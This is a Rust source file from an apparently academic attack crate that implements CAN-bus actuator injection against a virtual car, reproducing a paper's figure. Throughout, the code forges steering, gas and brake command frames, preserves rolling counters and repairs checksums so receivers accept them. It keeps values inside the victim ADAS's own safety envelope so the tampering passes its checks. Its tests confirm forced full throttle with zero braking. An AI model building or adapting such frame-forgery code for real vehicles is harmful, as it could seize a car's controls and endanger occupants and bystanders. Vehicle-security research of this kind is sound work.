//! CAN frame rewriting with checksum repair (paper Fig. 4), and the
//! values it writes.

use canbus::{rewrite_signal, CanFrame, VirtualCarDbc, ACCEL_CMD, BRAKE_CMD, STEER_ANGLE_CMD};
use units::{limits, Accel, Angle};

/// The actuator values to inject this cycle, one optional value per
/// actuator message. `None` leaves that message's frames untouched.
///
/// Every value lies inside the ADAS software envelope of
/// [`units::limits`], the bound the victim's own safety check enforces
/// (the paper's Eq. 1): the gas message carries `[0, SW_ACCEL_MAX_MPS2]`,
/// the brake message `[SW_BRAKE_MIN_MPS2, 0]` and the steering message
/// `±SW_STEER_MAX_DEG`, as the ADAS splits its own command between them.
/// [`AttackValues::new`] clamps each axis into its range and turns a NaN
/// into no injection:
///
/// ```
/// use attack_core::AttackValues;
/// use units::Accel;
///
/// let gas = |mps2| AttackValues::new(Some(Accel::from_mps2(mps2)), None, None);
/// assert_eq!(gas(9.0), gas(units::limits::SW_ACCEL_MAX_MPS2));
/// assert_eq!(gas(f64::NAN), AttackValues::default());
/// ```
///
/// The fields are private to this module, so [`Injector::apply`] is the
/// only code that reads the numbers. A literal does not compile outside
/// the module:
///
/// ```compile_fail,E0451
/// use attack_core::AttackValues;
///
/// let _ = AttackValues { accel: None, brake: None, steer: None };
/// ```
///
/// and neither does a field read:
///
/// ```compile_fail,E0616
/// use attack_core::AttackValues;
///
/// let _ = AttackValues::default().accel;
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub struct AttackValues {
    accel: Option<Accel>,
    brake: Option<Accel>,
    steer: Option<Angle>,
}

impl AttackValues {
    /// Values for the gas (`ACCEL_CMD`), brake (`BRAKE_CMD`, negative) and
    /// steering (`STEER_ANGLE_CMD`) messages, each clamped into its
    /// software-envelope range. A `None` or NaN axis injects nothing.
    pub fn new(accel: Option<Accel>, brake: Option<Accel>, steer: Option<Angle>) -> Self {
        let steer_max = Angle::from_degrees(limits::SW_STEER_MAX_DEG);
        Self {
            accel: accel.and_then(|a| {
                clamp_axis(a, Accel::ZERO, Accel::from_mps2(limits::SW_ACCEL_MAX_MPS2))
            }),
            brake: brake.and_then(|b| {
                clamp_axis(b, Accel::from_mps2(limits::SW_BRAKE_MIN_MPS2), Accel::ZERO)
            }),
            steer: steer.and_then(|s| clamp_axis(s, -steer_max, steer_max)),
        }
    }
}

#[cfg(test)]
impl AttackValues {
    /// The gas value, for the corruption and engine tests.
    pub(crate) fn accel(self) -> Option<Accel> {
        self.accel
    }
}

/// `value` clamped into `[lo, hi]`, or `None` for a NaN, which compares
/// false with both bounds. A value inside the range is returned as is.
fn clamp_axis<T: PartialOrd>(value: T, lo: T, hi: T) -> Option<T> {
    if value < lo {
        Some(lo)
    } else if value > hi {
        Some(hi)
    } else {
        (value >= lo).then_some(value)
    }
}

/// Rewrites in-flight actuator frames with attack values, preserving the
/// rolling counter and recomputing the checksum so receivers accept them.
#[derive(Debug, Default)]
pub struct Injector {
    dbc: VirtualCarDbc,
    rewritten: u64,
}

impl Injector {
    /// Creates an injector over the virtual car's DBC.
    pub fn new() -> Self {
        Self::default()
    }

    /// Total frames rewritten so far.
    pub fn rewritten(&self) -> u64 {
        self.rewritten
    }

    /// Applies the attack values to one frame. Frames the attack does not
    /// target pass through unchanged.
    pub fn apply(&mut self, frame: CanFrame, values: &AttackValues) -> CanFrame {
        let out = if frame.id() == self.dbc.steering_control().id {
            values.steer.map(|steer| {
                rewrite_signal(
                    self.dbc.steering_control(),
                    &frame,
                    &STEER_ANGLE_CMD,
                    steer.degrees(),
                )
            })
        } else if frame.id() == self.dbc.gas_command().id {
            values.accel.map(|accel| {
                rewrite_signal(self.dbc.gas_command(), &frame, &ACCEL_CMD, accel.mps2())
            })
        } else if frame.id() == self.dbc.brake_command().id {
            values.brake.map(|brake| {
                rewrite_signal(self.dbc.brake_command(), &frame, &BRAKE_CMD, brake.mps2())
            })
        } else {
            None
        };
        match out {
            // The values lie inside the software envelope, which every
            // command signal carries (`openadas::controls` asserts the wider
            // physical one fits), so only a malformed frame fails to
            // rewrite; it passes through untouched.
            Some(Ok(modified)) => {
                if modified != frame {
                    self.rewritten += 1;
                }
                modified
            }
            _ => frame,
        }
    }

    /// Applies the attack values to a whole batch.
    pub fn apply_all(&mut self, frames: Vec<CanFrame>, values: &AttackValues) -> Vec<CanFrame> {
        frames.into_iter().map(|f| self.apply(f, values)).collect()
    }

    /// In-place variant of [`apply_all`](Self::apply_all): rewrites targeted
    /// frames where they sit, allocating nothing ([`CanFrame`] is `Copy`).
    pub fn apply_in_place(&mut self, frames: &mut [CanFrame], values: &AttackValues) {
        for frame in frames {
            *frame = self.apply(*frame, values);
        }
    }
}

#[cfg(test)]
#[allow(clippy::float_cmp)] // tests assert exactly-representable values
mod tests {
    use super::*;
    use canbus::{decode, Encoder};

    fn command_frames(accel: f64, brake: f64, steer: f64) -> Vec<CanFrame> {
        let dbc = VirtualCarDbc::new();
        let mut enc = Encoder::new();
        vec![
            enc.encode(dbc.steering_control(), &[("STEER_ANGLE_CMD", steer)])
                .unwrap(),
            enc.encode(dbc.gas_command(), &[("ACCEL_CMD", accel)])
                .unwrap(),
            enc.encode(dbc.brake_command(), &[("BRAKE_CMD", brake)])
                .unwrap(),
        ]
    }

    #[test]
    fn rewrites_only_targeted_signals() {
        let mut inj = Injector::new();
        let frames = command_frames(0.5, 0.0, 0.1);
        let values = AttackValues::new(None, None, Some(Angle::from_degrees(-0.5)));
        let out = inj.apply_all(frames.clone(), &values);
        let dbc = VirtualCarDbc::new();
        // Steering changed and still verifies.
        let steer = decode(dbc.steering_control(), &out[0]).unwrap();
        assert!((steer["STEER_ANGLE_CMD"] + 0.5).abs() < 1e-9);
        // Gas and brake untouched, bit for bit.
        assert_eq!(out[1], frames[1]);
        assert_eq!(out[2], frames[2]);
        assert_eq!(inj.rewritten(), 1);
    }

    #[test]
    fn acceleration_attack_maxes_gas_and_zeroes_brake() {
        let mut inj = Injector::new();
        let frames = command_frames(0.3, -1.2, 0.0);
        let values = AttackValues::new(Some(Accel::from_mps2(2.4)), Some(Accel::ZERO), None);
        let out = inj.apply_all(frames, &values);
        let dbc = VirtualCarDbc::new();
        let gas = decode(dbc.gas_command(), &out[1]).unwrap();
        let brake = decode(dbc.brake_command(), &out[2]).unwrap();
        assert!((gas["ACCEL_CMD"] - 2.4).abs() < 1e-9);
        assert_eq!(brake["BRAKE_CMD"], 0.0);
        assert_eq!(inj.rewritten(), 2);
    }

    #[test]
    fn rewritten_frames_verify_at_the_receiver() {
        let mut inj = Injector::new();
        let frames = command_frames(0.0, 0.0, 0.0);
        let values = AttackValues::new(
            Some(Accel::from_mps2(2.0)),
            Some(Accel::from_mps2(0.0)),
            Some(Angle::from_degrees(0.25)),
        );
        let dbc = VirtualCarDbc::new();
        for frame in inj.apply_all(frames, &values) {
            let spec = dbc.by_id(frame.id()).unwrap();
            assert!(decode(spec, &frame).is_ok(), "checksum repaired on {frame}");
        }
    }

    #[test]
    fn unrelated_frames_pass_through() {
        let mut inj = Injector::new();
        let other = CanFrame::new(0x1D0, &[1, 2, 3, 4, 5, 6, 7, 8]).unwrap();
        let values = AttackValues::new(
            Some(Accel::from_mps2(2.4)),
            Some(Accel::ZERO),
            Some(Angle::from_degrees(0.5)),
        );
        assert_eq!(inj.apply(other, &values), other);
        assert_eq!(inj.rewritten(), 0);
    }

    #[test]
    fn identical_value_does_not_count_as_rewrite() {
        let mut inj = Injector::new();
        let frames = command_frames(2.4, 0.0, 0.0);
        let values = AttackValues::new(Some(Accel::from_mps2(2.4)), None, None);
        let _ = inj.apply_all(frames, &values);
        assert_eq!(inj.rewritten(), 0, "bit-identical output is not tampering");
    }

    #[test]
    fn constructor_clamps_each_axis_into_the_software_envelope() {
        let accel_max = Accel::from_mps2(limits::SW_ACCEL_MAX_MPS2);
        let brake_min = Accel::from_mps2(limits::SW_BRAKE_MIN_MPS2);
        let steer_max = Angle::from_degrees(limits::SW_STEER_MAX_DEG);
        let past = AttackValues::new(
            Some(Accel::from_mps2(9.0)),
            Some(Accel::from_mps2(-20.0)),
            Some(Angle::from_degrees(3.0)),
        );
        assert_eq!(
            past,
            AttackValues {
                accel: Some(accel_max),
                brake: Some(brake_min),
                steer: Some(steer_max),
            }
        );
        // A value of the wrong sign for its message clamps to zero, and an
        // infinity to its bound.
        let wrong_way = AttackValues::new(
            Some(Accel::from_mps2(-1.0)),
            Some(Accel::from_mps2(f64::INFINITY)),
            Some(Angle::from_degrees(f64::NEG_INFINITY)),
        );
        assert_eq!(
            wrong_way,
            AttackValues {
                accel: Some(Accel::ZERO),
                brake: Some(Accel::ZERO),
                steer: Some(-steer_max),
            }
        );
        // Values inside the envelope, its bounds included, keep their bits.
        for (accel, brake, steer) in [(2.4, -4.0, -0.5), (2.0, -3.5, 0.25), (0.0, -0.0, 0.0)] {
            let v = AttackValues::new(
                Some(Accel::from_mps2(accel)),
                Some(Accel::from_mps2(brake)),
                Some(Angle::from_degrees(steer)),
            );
            assert_eq!(v.accel.map(|a| a.mps2().to_bits()), Some(accel.to_bits()));
            assert_eq!(v.brake.map(|b| b.mps2().to_bits()), Some(brake.to_bits()));
            assert_eq!(
                v.steer.map(|s| s.radians().to_bits()),
                Some(Angle::from_degrees(steer).radians().to_bits())
            );
        }
    }

    #[test]
    fn a_nan_axis_injects_nothing() {
        let nan = AttackValues::new(
            Some(Accel::from_mps2(f64::NAN)),
            Some(Accel::from_mps2(f64::NAN)),
            Some(Angle::from_degrees(f64::NAN)),
        );
        assert_eq!(nan, AttackValues::default());
        let one = AttackValues::new(
            Some(Accel::from_mps2(f64::NAN)),
            Some(Accel::ZERO),
            Some(Angle::from_degrees(0.25)),
        );
        assert_eq!(
            one,
            AttackValues::new(None, Some(Accel::ZERO), Some(Angle::from_degrees(0.25)))
        );
        // The injector leaves every frame of an all-NaN cycle untouched.
        let mut inj = Injector::new();
        let frames = command_frames(0.3, -1.2, 0.1);
        assert_eq!(inj.apply_all(frames.clone(), &nan), frames);
        assert_eq!(inj.rewritten(), 0);
    }
}
